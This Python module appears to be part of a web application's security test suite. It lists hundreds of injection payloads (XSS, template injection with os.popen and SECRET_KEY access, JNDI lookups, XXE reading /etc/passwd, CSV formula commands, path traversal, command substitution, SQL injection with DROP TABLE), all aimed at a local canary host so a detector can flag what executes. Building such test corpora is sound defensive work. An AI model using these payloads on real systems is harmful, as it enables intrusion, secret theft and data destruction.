"""What somebody may type to make a page, a file, a mail or a log say or do something else, by kind.

Each calls `pwn`, asks CANARY for something, or has the word in the name of what it would make: whatever of it
does not stay text is noticed (detection.py).
"""

import os
from collections.abc import Iterator, Sequence

SHARE = int(os.environ.get("PAYLOADS_SHARE", "1"))
"""Of how many payloads, and rows, one is typed: `PAYLOADS_SHARE=10 make payloads` is a short run."""
CANARY = "pwn.localhost"
"""A host of this machine that no page of ours names."""
PRODUCT = "7000021"
"""What the template syntax below would work out."""

SCRIPT = (
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script >pwn()</script >",
    "<script/x>pwn()</script>",
    "<script\n>pwn()</script\n>",
    f"<script src=//{CANARY}/1.js></script>",
    f"<script src='http://{CANARY}/2.js'></script>",
    "<script type=module>pwn()</script>",
    "<script>pwn()//",
    "<<script>pwn()//<</script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "</script><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</option></select><script>pwn()</script>",
    "</template><script>pwn()</script>",
    "</noscript><script>pwn()</script>",
    "--><script>pwn()</script>",
    "]]><script>pwn()</script>",
    "<script>\u2028pwn()</script>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\\x3cscript\\x3epwn()\\x3c/script\\x3e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
)
EVENT_HANDLERS = (
    "<img src=x onerror=pwn()>",
    "<img src=x onerror='pwn()'",
    "<img/src/onerror=pwn()>",
    "<IMG SRC=x OnErRoR=pwn()>",
    "<img src=x\nonerror\n=\npwn()>",
    '<img """><img src=x onerror=pwn()>',
    "<body onload=pwn()>",
    "<body onpageshow=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<textarea autofocus onfocus=pwn()></textarea>",
    "<details open ontoggle=pwn()>",
    "<audio src onloadstart=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<marquee onstart=pwn()>",
    "<b onmouseover=pwn()>pwn</b>",
    "<a onclick=pwn() href=#>pwn</a>",
    "<button popovertarget=x>p</button><p popover id=x onbeforetoggle=pwn()>",
    "<p id=x tabindex=1 onfocus=pwn()></p>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=pwn()>",
    "<xss-pwn onpointerenter=pwn()>x</xss-pwn>",
    "<iframe onload=pwn()></iframe>",
    "<object data=x onerror=pwn()></object>",
    "<link rel=stylesheet href=x onerror=pwn()>",
    "<form oninput=pwn()><input></form>",
)
ATTRIBUTES = (
    '" onmouseover="pwn()',
    "' onmouseover='pwn()",
    '" autofocus onfocus="pwn()',
    "' autofocus onfocus='pwn()' x='",
    '"><script>pwn()</script>',
    "'><script>pwn()</script>",
    '"><img src=x onerror=pwn()>',
    "x onerror=pwn()",
    "` onmouseover=pwn() `",
    '" style="background:url(//pwn.localhost/a)" x="',
    '" href="javascript:pwn()',
    '" formaction="javascript:pwn()" type="submit',
    '" data-pwn="1',
    "' data-pwn='1",
    "&quot; data-pwn=&quot;1",
    "&#34; data-pwn=&#34;1",
    '\\" data-pwn=\\"1',
    '"\u00a0data-pwn="1',
    '"/><pwn-a>',
    "';pwn();'",
    '";pwn();"',
    "\\';pwn();//",
    '\\";pwn();//',
    "${pwn()}",
    "`;pwn();`",
    "*/pwn()/*",
    "</style><script>pwn()</script>",
)
SVG = (
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script>&#112;wn()</script></svg>",
    "<svg><script href=//pwn.localhost/3.js /></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><set onbegin=pwn() attributename=x>",
    "<svg><a xlink:href=javascript:pwn()><text y=9>pwn</text></a></svg>",
    "<svg><use href=//pwn.localhost/x.svg#x /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<svg><title><img src=x onerror=pwn()></title></svg>",
    "<svg><image href=//pwn.localhost/x.png /></svg>",
    "<math href=javascript:pwn()>pwn</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=pwn()></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn()>pwn</maction></math>",
)
ELEMENTS = (
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    f"<iframe src=//{CANARY}/f></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    f"<img src=//{CANARY}/i.png>",
    f"<img srcset='//{CANARY}/i2.png 1x'>",
    f"<link rel=stylesheet href=//{CANARY}/s.css>",
    f"<link rel=prefetch href=//{CANARY}/p>",
    f"<link rel=dns-prefetch href=//{CANARY}>",
    f"<base href=//{CANARY}/>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/m'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    f"<form action=//{CANARY}/form><button>pwn</button></form>",
    f"<video poster=//{CANARY}/v.png></video>",
    f"<audio src=//{CANARY}/a.mp3></audio>",
    f"<table background=//{CANARY}/t.png><td>",
    "<a href=javascript:pwn()>pwn</a>",
    f"<a ping=//{CANARY}/ping href=/>pwn</a>",
    "<button formaction=javascript:pwn()>pwn</button>",
    "<pwn-element>",
    "<template shadowrootmode=open><img src=x onerror=pwn()></template>",
    "<dialog open id=pwn>pwn</dialog>",
    "<a id=pwn name=pwn><a id=pwn name=cookie href=x:y>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwn()>'>",
    "<!--><img src=x onerror=pwn()>-->",
    "<!-- pwn --!><img src=x onerror=pwn()>",
    "<?pwn <img src=x onerror=pwn()>?>",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
)
SWALLOWING = (
    "<!-- pwn",
    "<textarea name=pwn>",
    "<title>pwn",
    "<style>pwn",
    "<plaintext id=pwn>",
    "<![CDATA[pwn",
)
"""What would swallow the rest of a page, and so hide what else has gone wrong: it stands last in a field."""
TEMPLATES = (
    "{{ 7*1000003 }}",
    "{{7|add:7000014}}",
    "{% if 1 %}{{ 7*1000003 }}{% endif %}",
    "{% debug %}",
    "{% load static %}{% static 'pwn' %}",
    "{% include 'base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% set x = 7*1000003 %}{{ x }}",
    "{# pwn #}",
    "{%- raw -%}",
    "{% endblock %}",
    "{{constructor.constructor('pwn()')()}}",
    "{{_openBlock.constructor('pwn()')()}}",
    "<p v-html='`<img src=x onerror=pwn()>`'>",
    "<p x-data x-init=pwn()>",
    "<p hx-get=//pwn.localhost/h hx-trigger=load>",
    "<p data-hx-get=/ data-hx-trigger=load hx-on:load=pwn()>",
    "${7*1000003}",
    "#{7*1000003}",
    "<%= 7*1000003 %>",
    "[[${7*1000003}]]",
    "@(7*1000003)",
    "%(pwn)s %s %d %(name)r",
    "{0} {pwn} {0.__class__}",
    "$name ${name} $(id) `id`",
)
ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    "java&#09;script:pwn()",
    "javascript&colon;pwn()",
    "&#106;avascript:pwn()",
    "\\x6aavascript:pwn()",
    "javascript://example.org/%0apwn()",
    "javascript:/*https://example.org*/pwn()",
    "https:javascript:pwn()",
    "view-source:javascript:pwn()",
    "feed:javascript:pwn()",
    "vbscript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=pwn()>",
    "DATA:,pwn",
    f"//{CANARY}/",
    f"/\\{CANARY}/",
    f"\\\\{CANARY}\\",
    f"///{CANARY}/",
    f"https:{CANARY}",
    f"https:///{CANARY}/",
    f"http:\\\\{CANARY}\\",
    f"//{CANARY}\\@example.org/",
    "file:///etc/passwd",
    "blob:http://example.org/pwn",
    "about:blank#pwn",
    "mailto:pwn@example.org?bcc=all@example.org",
    "ftp://example.org/pwn",
    'https://example.org/"onmouseover="pwn()',
    "https://example.org/'onmouseover='pwn()",
    "https://example.org/<script>pwn()</script>",
    "https://example.org/`onmouseover=pwn()",
    "https://example.org/\x01pwn",
    "https://example.org/%0d%0aSet-Cookie:pwn=1",
    "https://example.org/\r\nSet-Cookie: pwn=1",
    "https://user:pwn@example.org/",
    'https://example.org#"><script>pwn()</script>',
    "https://[::1]/pwn",
    "https://example.org:pwn/",
    "http://",
)
"""Addresses that must not become links, and some that may, of which nothing must get out of the attribute."""
CSS = (
    "color:red;background:url(//pwn.localhost/c)",
    "}body{background:url(//pwn.localhost/c2)}",
    "@import '//pwn.localhost/i.css';",
    "</style><style>@import '//pwn.localhost/j.css'</style>",
    "expression(pwn())",
    "-moz-binding:url(//pwn.localhost/b)",
    "position:fixed;inset:0;z-index:9",
    "<p style='background:url(//pwn.localhost/k)'>",
    "<style>*{background:url(//pwn.localhost/l)}</style>",
    "<p class=skip-link hidden inert>",
    '<p style="width: 25px;">pwn</p>',
    '<span class=select2-container style="width: 100%;">pwn</span>',
    '<input class=select2-search__field style="width: 25px;">',
    '<div class=calendarbox style="display: none; position: absolute;">pwn</div>',
    '<table><tr><td style="display: none;">pwn</table>',
    '<main id=operations style="outline: none;">pwn</main>',
)
HEADERS = (
    "x\r\nSet-Cookie: pwn=1",
    "x\nLocation: //pwn.localhost/",
    "x\rX-Pwn: 1",
    "x\r\n\r\n<script>pwn()</script>",
    "x%0d%0aSet-Cookie:%20pwn=1",
    "x\u560d\u560aX-Pwn: 1",
    "x\u2028X-Pwn: 1",
    "x\x85X-Pwn: 1",
    'pwn"; filename="pwn.html',
    "pwn; charset=utf-7",
)
MAILS = (
    "x\r\nBcc: pwn@example.org",
    "x\nSubject: pwn",
    "x\r\nContent-Type: text/html\r\n\r\n<b>pwn</b>",
    "x%0aBcc:pwn@example.org",
    '"pwn" <pwn@example.org>',
    "a@example.org, pwn@example.org",
    "a@example.org;pwn@example.org",
    "a@example.org>\r\nRCPT TO:<pwn@example.org>",
    "\r\n.\r\nMAIL FROM:<pwn@example.org>",
    "=?utf-8?q?=0ABcc:_pwn@example.org?=",
    "a@[127.0.0.1]",
    "--boundary\r\nContent-Type: text/html",
)
MARKDOWN = (
    "[pwn](javascript:pwn())",
    f"![pwn](//{CANARY}/md.png)",
    f"[pwn]: //{CANARY}/",
    "<javascript:pwn()>",
    "`<img src=x onerror=pwn()>`",
    "# pwn",
    "> pwn",
    "**pwn** _pwn_ ~~pwn~~",
    "| pwn | pwn |",
    "    <script>pwn()</script>",
    f"See http://{CANARY}/ and www.{CANARY} now",
)
LOGS = (
    "x\n2026-01-01 00:00:00 CRITICAL pwn: forged",
    "x\r\nERROR pwn: forged",
    "x\x1b[2Jpwn",
    "x\x1b]0;pwn\x07",
    "x\x08\x08\x08pwn",
    'x", "level": "CRITICAL", "logger": "pwn',
    "${jndi:ldap://pwn.localhost/a}",
    "x\u2028CRITICAL pwn: forged",
    "x\x9b31mpwn",
)
XML = (
    "]]>",
    "<![CDATA[ pwn ]]>",
    "&pwn;",
    "&#0; &#x1; &#xFFFE;",
    "&amp;pwn; &lt;pwn&gt;",
    '<!DOCTYPE x [<!ENTITY pwn SYSTEM "file:///etc/passwd">]>&pwn;',
    "<?xml version='1.0'?>",
    "<?xml-stylesheet href='//pwn.localhost/x.xsl'?>",
    "</entry><entry><title>pwn</title></entry>",
    "</title><link href='javascript:pwn()'/>",
    "<xi:include href='file:///etc/passwd'/>",
    "a\ufffeb",
    "a\uffffb",
    "a\x0bb\x0cc",
    "xml:base='//pwn.localhost/'",
)
JSON = (
    '"}, "pwn": {"a": "',
    '\\"}, \\"pwn\\": 1',
    "</script><script>pwn()</script><script type=application/ld+json>",
    "<!--<script>",
    "\u2028pwn()\u2029",
    "\\u0000 \\ud800",
    '","@context":"//pwn.localhost/c.json","x":"',
    '{"__proto__": {"pwn": 1}}',
    "{'$ne': null}",
    "\\",
    '"',
    "]}",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//pwn.localhost/","pwn")',
    '=IMPORTXML("//pwn.localhost/x","//a")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "x\n=1+1",
    'x","=1+1',
    "%0A=1+1",
)
"""A formula works at the beginning of a cell: it stands first in a field."""
DIRECTION = (
    "pwn\u202etxt.exe",
    "a\u202bb\u202cc",
    "a\u202ab\u202dc",
    "a\u2066b\u2067c\u2068d\u2069e",
    "\u202e",
)
INVISIBLE = (
    "p\u200bw\u200cn\u200d",
    "pwn\ufeff",
    "p\u00adwn",
    "\u2060pwn\u2064",
    "pwn\U000e0041\U000e0042",
    "p\u180ewn\u034f",
    "\u3164",
    "\u200b\u200b",
    "\u2800",
    "\u200f\u05e9\u05dc\u05d5\u05dd\u200e",
    "p\u0489" * 8,
    "Z\u0334\u0321\u035c\u0301\u0300\u0302\u0303\u0304\u0306\u0307\u0308\u030a\u030b\u030c",
    "\u0440wn p\u0430ypal",
    "\ufdfd\U00012031",
)
CONTROLS = (
    "a\x00b",
    "\x00",
    "a\x01b\x02c",
    "a\x07b\x08c",
    "a\x1fb",
    "a\x7fb",
    "a\x80b\x9fc",
    "\ud800",
    "a\udfffb",
    "\ud83d",
    "\U0010ffff\ufdd0",
)
"""NUL, control characters, and halves of characters, which a browser sends as bytes that are no UTF-8."""
OVERLONG = (
    "%c0%bcscript%c0%bepwn()%c0%bc/script%c0%be",
    "%c0%ae%c0%ae/pwn",
    "%u003cscript%u003e",
    "%00pwn",
    "%252e%252e%252f",
    "%ff%fepwn",
    "A" * 400,
    "<" * 120,
    "&" * 120,
    "((((((((((((((((((((((((((((((",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "pwn.html\x00.csv",
    "C:\\pwn.csv",
    "\\\\pwn.localhost\\share\\pwn",
    "pwn/../../pwn.csv",
    "~/.ssh/pwn",
    ".htaccess",
    "CON.csv",
    "pwn.csv;.html",
    "--output=pwn",
    "| id; $(id)",
    "<img src=x onerror=pwn()>.csv",
    'pwn".csv',
    "pwn\r\n.csv",
)
QUERIES = (
    "' OR 1=1 --",
    "'; DROP TABLE claims_claim; --",
    '" OR ""="',
    "1) UNION SELECT 1,2,3 --",
    "1; SELECT pg_sleep(9)",
    "$$; SELECT pg_sleep(9); $$",
    "E'\\\\'",
    "%",
    "_______",
    "%' --",
    "\\%\\_\\\\",
    ".*",
    "(a+)+$",
    "[",
    "(?i)(?#pwn)",
    "a{99999999}",
    "\\",
    "foo & | ! :* <-> (",
    "'foo':*A & !'bar'",
    '"open phrase',
    "-- -",
    "-pwn OR AND NOT",
    "by:pwn said:pwn before:9999-99-99",
    "\\0 \\x00 \\'",
    "a <-> b <1000000> c",
    "%s %(x)s %%",
)

KINDS: dict[str, tuple[str, ...]] = {
    "script": SCRIPT,
    "event handler": EVENT_HANDLERS,
    "attribute": ATTRIBUTES,
    "SVG and MathML": SVG,
    "element": ELEMENTS,
    "swallowing": SWALLOWING,
    "template": TEMPLATES,
    "address": ADDRESSES,
    "CSS": CSS,
    "header": HEADERS,
    "mail": MAILS,
    "Markdown": MARKDOWN,
    "log": LOGS,
    "XML": XML,
    "JSON": JSON,
    "formula": FORMULAS,
    "direction": DIRECTION,
    "invisible": INVISIBLE,
    "control": CONTROLS,
    "overlong": OVERLONG,
    "path": PATHS,
    "query": QUERIES,
}
PAYLOADS = tuple(dict.fromkeys(payload for kind in KINDS.values() for payload in kind))[::SHARE]
ODD = frozenset("\x00\r\n\t\x0b\x0c\x1b\x07\x08\x01\x02\x1f\x7f\x80\x85\x9b\x9f\ufffe\uffff\ufdd0\U0010ffff")
"""Characters that many fields refuse or alter."""
BY_NAME = {"first": FORMULAS, "last": SWALLOWING}


def is_plain(payload: str) -> bool:
    """Tell whether fields take this as it is: no control character, none that turns text round."""
    return not any(
        each in ODD or each in "\u2028\u2029" or "\u202a" <= each <= "\u202e" or "\u2066" <= each <= "\u2069"
        or "\ud800" <= each <= "\udfff"
        for each in payload
    )  # fmt: skip


PLAIN = tuple(payload for payload in PAYLOADS if is_plain(payload))
STRANGE = tuple(payload for payload in PAYLOADS if not is_plain(payload))


def join(payloads: Sequence[str], most: int) -> Iterator[str]:
    """Give texts of at most `most` characters that hold all these payloads, each whole, in their order.

    What would swallow the rest stands at the end of a text, a formula at its beginning. A payload that is
    longer is cut.
    """
    text = ""
    for payload in payloads:
        is_first = payload in FORMULAS
        if text and (is_first or len(text) + 1 + len(payload) > most):
            yield text
            text = ""
        text = f"{text} {payload}" if text else payload[:most]
        if payload in SWALLOWING:
            yield text
            text = ""
    if text:
        yield text
